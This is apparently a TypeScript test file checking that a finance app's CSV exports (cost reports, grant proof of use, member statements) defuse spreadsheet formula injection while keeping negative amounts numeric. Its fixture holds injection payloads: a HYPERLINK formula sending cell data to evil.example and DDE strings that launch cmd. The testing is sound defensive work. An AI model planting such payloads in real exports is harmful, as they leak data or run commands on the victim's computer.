import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../../src/store/database.ts';
import { insertService } from '../../src/store/service-store.ts';
import { withTenant } from '../../src/store/with-tenant.ts';
import { openTestDatabase, testBackends } from '../support/databases.ts';
import { bearer, jsonRequest, seedTenant, testApp } from '../support/test-app.ts';
import { csvRequest } from './finance-setup.ts';

// Names a hostile tenant member could give services, grants and members, each of which a
// spreadsheet would run as a formula if a CSV export wrote it as it is.
const hostile = {
  hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"Details")',
  dde: "-2+3+cmd|' /C calc'!A0",
  plus: '+1+1',
  at: '@SUM(1+1)*cmd|"/C calc"!A0',
  tab: '\t=1+1',
};

const FORMULA_START = /^[=+\-@\t\r]/;

describe.each(testBackends())('CSV exports neutralise formulas on %s', (backend) => {
  let database: Database;
  let app: ReturnType<typeof testApp>['app'];
  let token: string;
  let grantId: string;
  let budgetId: string;

  beforeAll(async () => {
    database = await openTestDatabase(backend);
    app = testApp(database, { clock: () => new Date('2026-03-31T12:00:00Z') }).app;
    const tenant = await seedTenant(database, 'formel');
    token = tenant.tokens.finance;
    const ids = Object.fromEntries(Object.keys(hostile).map((k) => [k, crypto.randomUUID()]));
    await withTenant(database, tenant.id, async (tx) => {
      for (const [key, name] of Object.entries(hostile))
        await insertService(tx, tenant.id, ids[key] as string, { key, name });
    });
    const lines = ['date,service,category,amount,currency'];
    for (const key of Object.keys(hostile)) lines.push(`2026-03-02,${key},compute,100.00,EUR`);
    // A credit: a real negative amount that must stay a number.
    lines.push('2026-03-03,plus,compute,-12.50,EUR');
    expect((await app.request('/v1/costs/imports', csvRequest(token, lines.join('\n')))).status).toBe(200);
    const grant = await app.request(
      '/v1/grants',
      jsonRequest('POST', token, {
        programme: hostile.hyperlink,
        funder: hostile.at,
        referenceNumber: '=1+1',
        amount: '1000.00',
        period: { start: '2026-01-01', end: '2026-12-31' },
        eligibleServiceIds: [ids.plus],
        coFundingRate: '0.5',
      }),
    );
    expect(grant.status).toBe(201);
    grantId = ((await grant.json()) as { id: string }).id;
    const budget = await app.request(
      '/v1/budgets',
      jsonRequest('POST', token, {
        name: 'Umlage',
        fiscalYear: 2026,
        amount: '1200',
        serviceIds: Object.values(ids),
        allocationKey: {
          name: 'Einwohner',
          basis: 'inhabitants',
          shares: [
            { memberId: 'a', memberName: hostile.dde, weight: '1' },
            { memberId: 'b', memberName: '-Gemeinde B', weight: '1' },
          ],
        },
      }),
    );
    expect(budget.status).toBe(201);
    budgetId = ((await budget.json()) as { id: string }).id;
  });
  afterAll(() => database?.close());

  const rowsOf = async (path: string, locale: 'de' | 'en') => {
    const res = await app.request(`${path}${path.includes('?') ? '&' : '?'}locale=${locale}`, {
      headers: bearer(token),
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    return parse(await res.text(), {
      bom: true,
      delimiter: locale === 'de' ? ';' : ',',
      relax_column_count: true,
    }) as string[][];
  };

  it.each([
    ['the monthly cost report', '/v1/costs/monthly?from=2026-03-01&to=2026-03-31'],
    ['the proof of use', 'GRANT'],
    ['the member statements', 'BUDGET'],
  ])('%s starts no cell with a formula, yet keeps negative amounts numbers', async (_name, path) => {
    const url =
      path === 'GRANT'
        ? `/v1/grants/${grantId}/proof-of-use?format=csv&to=2026-03-31`
        : path === 'BUDGET'
          ? `/v1/budgets/${budgetId}/statements?format=csv&from=2026-03-01&to=2026-03-31`
          : path;
    for (const locale of ['de', 'en'] as const) {
      const cells = (await rowsOf(url, locale)).flat();
      const formulas = cells.filter((cell) => FORMULA_START.test(cell) && !/^-[\d.,]+$/.test(cell));
      expect(formulas).toEqual([]);
      const guarded = cells.filter((cell) => cell.startsWith("'"));
      expect(guarded.length).toBeGreaterThan(0);
      for (const cell of guarded)
        expect(Object.values(hostile).concat(['=1+1', '-Gemeinde B'])).toContain(cell.slice(1));
    }
  });

  it('writes the credit as a negative number', async () => {
    const rows = await rowsOf('/v1/costs/monthly?from=2026-03-01&to=2026-03-31', 'en');
    const plus = rows.find((row) => row[1] === `'${hostile.plus}`);
    expect(plus?.[2]).toBe('87.50');
    const negative = (await rowsOf('/v1/costs/monthly?from=2026-03-03&to=2026-03-03', 'en')).flat();
    expect(negative).toContain('-12.50');
  });
});
